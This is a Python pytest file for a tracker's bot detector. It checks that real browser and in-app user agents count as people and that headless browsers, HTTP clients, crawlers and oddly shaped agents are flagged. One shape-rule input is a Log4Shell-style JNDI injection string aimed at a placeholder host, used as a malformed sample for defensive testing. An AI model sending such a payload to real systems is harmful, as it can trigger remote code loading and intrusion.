"""Bot detection: one test per reason, coverage of the crawler list, no false positives on browsers."""
# ruff: noqa: E501  (the user agents below are data, kept one per line)

from __future__ import annotations

import pytest
import user_agents
from crawleruseragents import CRAWLER_USER_AGENTS_DATA

from tracker.enrich.bots import LIST_EXCLUSIONS, BotReason, compile_patterns, reason_for
from tracker.enrich.device import parse_device

# Current real browser and in-app user agents, as the clients send them (2024-2025 versions), each
# after the device class it should get. Kept as data: add any UA we ever misclassify.
_REAL_BROWSERS = """
# Windows
desktop Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36
desktop Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0
desktop Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0
desktop Mozilla/5.0 (Windows NT 6.1; Win64; x64; rv:115.0) Gecko/20100101 Firefox/115.0
desktop Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36 OPR/115.0.0.0
desktop Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36 Vivaldi/7.0.3495.18
desktop Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/128.0.0.0 YaBrowser/24.10.0.0 Safari/537.36
desktop Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Whale/4.29.282.14 Safari/537.36
desktop Mozilla/5.0 (Windows NT 10.0; WOW64; Trident/7.0; rv:11.0) like Gecko
# macOS
desktop Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36
desktop Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15
desktop Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:133.0) Gecko/20100101 Firefox/133.0
desktop Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0
desktop Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36 OPR/115.0.0.0
desktop Mozilla/5.0 (Macintosh; Intel Mac OS X 14_7_1) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Safari/605.1.15
# Linux and ChromeOS
desktop Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36
desktop Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0
desktop Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0
desktop Mozilla/5.0 (X11; Fedora; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0
desktop Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36
desktop Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.0 Safari/605.1.15 Epiphany/605.1.15
# Android browsers
mobile  Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36
mobile  Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.6778.81 Mobile Safari/537.36
tablet  Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36
mobile  Mozilla/5.0 (Linux; Android 14; SAMSUNG SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/26.0 Chrome/122.0.0.0 Mobile Safari/537.36
tablet  Mozilla/5.0 (Linux; Android 13; SAMSUNG SM-X710) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/25.0 Chrome/121.0.0.0 Safari/537.36
mobile  Mozilla/5.0 (Android 14; Mobile; rv:133.0) Gecko/133.0 Firefox/133.0
tablet  Mozilla/5.0 (Android 14; Tablet; rv:133.0) Gecko/133.0 Firefox/133.0
mobile  Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36 EdgA/131.0.0.0
mobile  Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Mobile Safari/537.36 OPR/85.0.0.0
mobile  Mozilla/5.0 (Linux; Android 14; Pixel 7 Build/UQ1A.240205.004; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/131.0.6778.81 Mobile Safari/537.36
mobile  Mozilla/5.0 (Linux; U; Android 13; en-us; 2201117TY Build/TKQ1.221114.001) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/112.0.5615.136 Mobile Safari/537.36 XiaoMi/MiuiBrowser/14.7.0-gn
mobile  Mozilla/5.0 (Linux; U; Android 11; en-US; RMX2185 Build/QP1A.190711.020) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/100.0.4896.58 UCBrowser/13.4.0.1306 Mobile Safari/537.36
mobile  Mozilla/5.0 (Linux; Android 14) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/131.0.0.0 Mobile DuckDuckGo/5 Safari/537.36
mobile  Mozilla/5.0 (Linux; Android 12; HarmonyOS; NOH-AN00; HMSCore 6.13.0.302) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/114.0.5735.196 HuaweiBrowser/15.0.4.312 Mobile Safari/537.36
tablet  Mozilla/5.0 (Linux; Android 9; KFTRWI) AppleWebKit/537.36 (KHTML, like Gecko) Silk/130.4.1 like Chrome/130.0.6723.102 Safari/537.36
# iOS and iPadOS browsers
mobile  Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1
tablet  Mozilla/5.0 (iPad; CPU OS 17_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.7 Mobile/15E148 Safari/604.1
mobile  Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) CriOS/131.0.6778.73 Mobile/15E148 Safari/604.1
mobile  Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) FxiOS/133.0 Mobile/15E148 Safari/605.1.15
mobile  Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.0 EdgiOS/131.2903.68 Mobile/15E148 Safari/605.1.15
mobile  Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) GSA/343.0.695551749 Mobile/15E148 Safari/604.1
mobile  Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 DuckDuckGo/7 Safari/605.1.15
mobile  Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Mobile/15E148 Safari/604.1 OPT/5.0.0
# In-app browsers
mobile  Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 [FBAN/FBIOS;FBAV/485.0.0.45.109;FBBV/647374920;FBDV/iPhone15,2;FBMD/iPhone;FBSN/iOS;FBSV/17.6;FBSS/3;FBID/phone;FBLC/en_US;FBOP/5;FBRV/649420398]
mobile  Mozilla/5.0 (Linux; Android 14; SM-S911B Build/UP1A.231005.007; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/131.0.6778.81 Mobile Safari/537.36 [FB_IAB/FB4A;FBAV/488.0.0.63.87;]
mobile  Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 Instagram 356.0.0.25.109 (iPhone14,5; iOS 18_1; en_US; en; scale=3.00; 1170x2532; 654010224; IABMV/1)
mobile  Mozilla/5.0 (Linux; Android 13; SM-A536B Build/TP1A.220624.014; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/131.0.6778.81 Mobile Safari/537.36 Instagram 356.0.0.41.101 Android (33/13; 450dpi; 1080x2177; samsung; SM-A536B; a53x; s5e8825; en_GB; 655419374)
mobile  Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 musical_ly_35.6.0 JsSdk/2.0 NetType/WIFI Channel/App Store ByteLocale/en Region/US ByteFullLocale/en-US isDarkMode/0 WKWebView/1 BytedanceWebview/d8a21c6
mobile  Mozilla/5.0 (iPhone; CPU iPhone OS 17_5_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 [LinkedInApp]/9.29.9180
mobile  Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 Snapchat/13.5.0.37 (like Safari/8617.2.4.10.8, panda)
mobile  Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 Twitter for iPhone/10.47
mobile  Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 MicroMessenger/8.0.49(0x18003133) NetType/WIFI Language/zh_CN
mobile  Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 [Pinterest/iOS]
mobile  Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 Safari Line/14.9.0
mobile  Mozilla/5.0 (Linux; Android 14; Pixel 8 Build/AP2A.240805.005; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/128.0.6613.127 Mobile Safari/537.36 Telegram-Android/11.1.3 (Google Pixel 8; Android 14; SDK 34; HIGH)
mobile  Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 GoogleWv/1.0 (WKWebView) GeoSearch/343.0.695551749
# Apps whose names or device fields hold words HTTP clients use as names: people all the same
mobile  Mozilla/5.0 (Linux; Android 13; 22101316G Build/TP1A.220624.014; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/131.0.6778.81 Mobile Safari/537.36 Instagram 356.0.0.41.101 Android (33/13; 440dpi; 1080x2400; Xiaomi/Redmi; 22101316G; ruby; mt6877; en_US; 655419374)
desktop Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Ruby Rewards/3.4.0 Chrome/128.0.6613.186 Electron/32.1.2 Safari/537.36
desktop Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Node Notes/2.1.0 Chrome/128.0.6613.186 Electron/32.1.2 Safari/537.36
mobile  Mozilla/5.0 (Linux; Android 14; Pixel 8 Build/AP2A.240805.005; wv) AppleWebKit/537.36 (KHTML, like Gecko) Version/4.0 Chrome/131.0.6778.81 Mobile Safari/537.36 Node (Google Pixel 8; Android 14; SDK 34)
mobile  Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 You Got Mail/4.2.1
mobile  Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 Bun Bun Bakery/2.3 (iPhone15,3; iOS 18.1)
desktop Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Java Academy/2.0.1 Chrome/128.0.6613.186 Electron/32.1.2 Safari/537.36
# TVs and consoles: people, but neither desktop nor phone
other   Mozilla/5.0 (SMART-TV; LINUX; Tizen 7.0) AppleWebKit/537.36 (KHTML, like Gecko) 94.0.4606.31/7.0 TV Safari/537.36
other   Mozilla/5.0 (Windows NT 10.0; Win64; x64; Xbox; Xbox One) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0
other   Mozilla/5.0 (PlayStation; PlayStation 5/8.20) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/15.4 Safari/605.1.15
"""
REAL_BROWSERS: list[tuple[str, str]] = [
    (line[8:], line[:8].strip()) for line in _REAL_BROWSERS.strip().splitlines() if not line.startswith("#")
]


def _instances() -> list[str]:
    return [ua for entry in CRAWLER_USER_AGENTS_DATA for ua in entry["instances"]]


def _reason(ua: str) -> str:
    return parse_device(ua).bot_reason


def test_browser_list_is_large_enough_to_mean_something():
    assert len(REAL_BROWSERS) >= 50
    assert len({ua for ua, _ in REAL_BROWSERS}) == len(REAL_BROWSERS)


@pytest.mark.parametrize(("ua", "expected"), REAL_BROWSERS)
def test_real_browsers_are_people_of_the_right_device_class(ua, expected):
    device = parse_device(ua)
    assert (device.is_bot, device.bot_reason, device.device) == (False, "", expected)


def test_client_names_that_are_also_words_appear_in_real_browsers():
    """Such words count as an HTTP client only as its product token (``got/11``) or as the whole agent."""
    for word in (" got ", " node ", " ruby", " bun ", " java "):
        assert any(word in ua.lower() for ua, _ in REAL_BROWSERS), word


def test_empty_ua():
    assert _reason("") == BotReason.EMPTY_UA
    assert _reason("   ") == BotReason.EMPTY_UA
    assert _reason("-") == BotReason.EMPTY_UA


@pytest.mark.parametrize(
    "ua",
    [
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/131.0.0.0 Safari/537.36",
        "Mozilla/5.0 (Unknown; Linux x86_64) AppleWebKit/538.1 (KHTML, like Gecko) PhantomJS/2.1.1 Safari/538.1",
        "Mozilla/5.0 (Linux; Android 11; moto g power (2022)) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/118.0.0.0 Mobile Safari/537.36 Chrome-Lighthouse",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36; Selenium",
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36 Playwright/1.45",
        "Mozilla/5.0 (linux) AppleWebKit/537.36 (KHTML, like Gecko) jsdom/24.0.0",
    ],
)
def test_headless(ua):
    assert _reason(ua) == BotReason.HEADLESS


@pytest.mark.parametrize(
    "ua",
    [
        "curl/8.5.0",
        "Wget/1.21.4",
        "python-requests/2.32.3",
        "Python/3.12 aiohttp/3.9.5",
        "python-httpx/0.27.0",
        "Go-http-client/2.0",
        "axios/1.7.2",
        "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
        "okhttp/4.12.0",
        "Java/17.0.9",
        "Apache-HttpClient/4.5.14 (Java/17.0.9)",
        "libwww-perl/6.72",
        "PostmanRuntime/7.39.0",
        "Mozilla/5.0 (Windows NT 10.0; Microsoft Windows 10.0.19045; en-US) PowerShell/7.4.2",
        "Mozilla/5.0 (Windows NT; Windows NT 10.0; en-US) WindowsPowerShell/5.1.19041.4291",
        "got/11.8.2 (https://github.com/sindresorhus/got)",
        "got (https://github.com/sindresorhus/got)",
        "node",
        "node/20.11.1",
        "undici",
        "node-fetch",
        "Ruby",
        "rest-client/2.1.0 (linux-gnu x86_64) ruby/3.2.2p53",
        "Faraday v2.9.0",
        "Bun/1.1.0",
        "Deno/1.44.4",
        "Dart/3.4 (dart:io)",
        "axios/1.6.0",
        "python-requests/2.31.0",
        "curl/8.4.0",
        "Java/1.8.0_402",
        "Jakarta Commons-HttpClient/3.1",
    ],
)
def test_http_client(ua):
    assert _reason(ua) == BotReason.HTTP_CLIENT


def test_crawler_list():
    assert (
        _reason("Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)")
        == BotReason.CRAWLER_LIST
    )
    assert _reason("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)") == (
        BotReason.CRAWLER_LIST
    )


def test_crawler_list_tags_refine_the_reason():
    """An entry tagged http-library or browser-automation reports that, not just 'crawler_list'."""
    matcher = compile_patterns(
        [
            {"pattern": "FooFetch", "tags": ["http-library"]},
            {"pattern": "BarDriver", "tags": ["browser-automation"]},
            {"pattern": "BazBot", "tags": ["seo"]},
        ]
    )
    assert matcher.reason("FooFetch/1.0") == BotReason.HTTP_CLIENT
    assert matcher.reason("BarDriver/2") == BotReason.HEADLESS
    assert matcher.reason("BazBot/3") == BotReason.CRAWLER_LIST
    assert matcher.reason("Mozilla/5.0 (X11; Linux x86_64) Firefox/133.0") == ""


def test_patterns_the_rust_engine_rejects_still_match():
    """Look-around is not supported by the Rust engine; such a pattern falls back to Python's re."""
    matcher = compile_patterns(
        [{"pattern": "Qux(?=Bot)", "tags": []}, {"pattern": "Zed", "tags": ["http-library"]}]
    )
    assert matcher.fallback is not None
    assert matcher.reason("QuxBot/1") == BotReason.CRAWLER_LIST
    assert matcher.reason("QuxHuman/1") == ""
    assert matcher.reason("Zed/1") == BotReason.HTTP_CLIENT


def test_ua_library():
    """ua-parser's Spider family catches what the list and the markers do not, and wins over the rules."""
    ua = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 OdnosTestRobot/1.0 Safari/537.36"
    assert reason_for(ua, "Other") == ""
    assert reason_for(ua, "Spider") == BotReason.UA_LIBRARY
    assert parse_device(ua).bot_reason == BotReason.UA_LIBRARY
    assert reason_for("Mozilla/5.0 (compatible; OdnosTestFetcher/1.0)", "Spider") == BotReason.UA_LIBRARY


# One agent per shape rule, none in any list: what they catch is bots nobody listed yet.
@pytest.mark.parametrize(("ua", "reason"), [
    ("Quux-Scanner/1.0 (Linux)", BotReason.SELF_DECLARED),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0 Safari/537.36 Quux Monitor",
     BotReason.SELF_DECLARED),
    ("Quux Fetcher/2.0", BotReason.SELF_DECLARED),
    ("Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 Chrome/120.0 Safari/537.36 "
     "QuuxObservatory/1.0", BotReason.SELF_DECLARED),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0 Safari/537.36 QuuxAgent",
     BotReason.SELF_DECLARED),
    ("Mozilla/5.0 (Linux; Android 14; Pixel 8; Quux-Google/1.0) AppleWebKit/537.36 Chrome/120.0 Mobile "
     "Safari/537.36", BotReason.SELF_DECLARED),
    ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko; Google Page Renderer) "
     "Chrome/120.0 Safari/537.36", BotReason.SELF_DECLARED),
    ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/120.0 Safari/537.36 (+quux.example.io)",
     BotReason.CONTACT),
    ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/120.0 Safari/537.36 ops@quux-labs.net",
     BotReason.CONTACT),
    ("Quux/1.2 (https://quux.example/about)", BotReason.CONTACT),
    ("Mozilla/5.0 (compatible; Quux/1.0) AppleWebKit/537.36 (KHTML, like Gecko)", BotReason.COMPATIBLE_OTHER),
    ("Mozilla/5.0 (compatible; Quux/1.0)", BotReason.TOOL_AGENT),
    ("Quux/1.2.3", BotReason.TOOL_AGENT),
    ("Quux", BotReason.TOOL_AGENT),
    ("Mozilla/5.0 Quux/0.1", BotReason.TOOL_AGENT),
    ("Mozilla/5.0", BotReason.TOOL_AGENT),
    ("${jndi:ldap://x.example/a}", BotReason.MALFORMED),
    ("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 Chrome/W.X.Y.Z Safari/537.36", BotReason.MALFORMED),
    ("Quux/0.2.0-SNAPSHOT (Linux)", BotReason.MALFORMED),
])
def test_shape_rules(ua, reason):
    assert parse_device(ua).bot_reason == reason


@pytest.mark.parametrize("ua", [
    "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 10.0; WOW64; Trident/7.0; Microsoft Outlook 16.0.17928; "
    "ms-office; MSOffice 16)",
    "Mozilla/4.0 (compatible; ms-office; MSOffice 16)",
    "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17928; Pro)",
    "Outlook-iOS/723.4027091.prod.iphone (4.2401.0)",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko)",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Thunderbird/128.5.0",
    "Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)",
    "Mozilla/5.0 (compatible; Konqueror/4.5; Linux) KHTML/4.5.5 (like Gecko)",
    "Lynx/2.9.0dev.12 libwww-FM/2.14 SSL-MM/1.4.1 OpenSSL/3.0.13",
    "Mozilla/5.0 (Linux; Android 7.0; M bot 54) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/78.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Linux; Android 9; CUBOT X19) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Mobile Safari/537.36",
])
def test_mail_clients_and_odd_people_are_people(ua):
    assert parse_device(ua).bot_reason == "", ua


def test_bot_device_class_and_browser_are_filled():
    device = parse_device("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)")
    assert (device.device, device.is_bot) == ("bot", True)


def test_combined_detector_covers_the_crawler_list_instances():
    """In-sample, so a weak check: the held-out figures are tests/test_machines_eval.py's."""
    instances = [ua for entry in CRAWLER_USER_AGENTS_DATA if entry["pattern"] not in LIST_EXCLUSIONS
                 for ua in entry["instances"]]
    flagged = [ua for ua in instances if parse_device(ua).is_bot]
    assert len(instances) > 2000
    assert len(flagged) == len(instances), set(instances) - set(flagged)


def test_user_agents_alone_covers_far_less():
    """The reason this module exists; if user-agents catches up, revisit the combination."""
    instances = _instances()
    alone = sum(1 for ua in instances if user_agents.parse(ua).is_bot)
    assert 0.3 < alone / len(instances) < 0.8


def test_no_false_positives_from_any_signal_on_real_browsers():
    for ua, _ in REAL_BROWSERS:
        assert not user_agents.parse(ua).is_bot, ua
        assert reason_for(ua, "Other") == "", ua
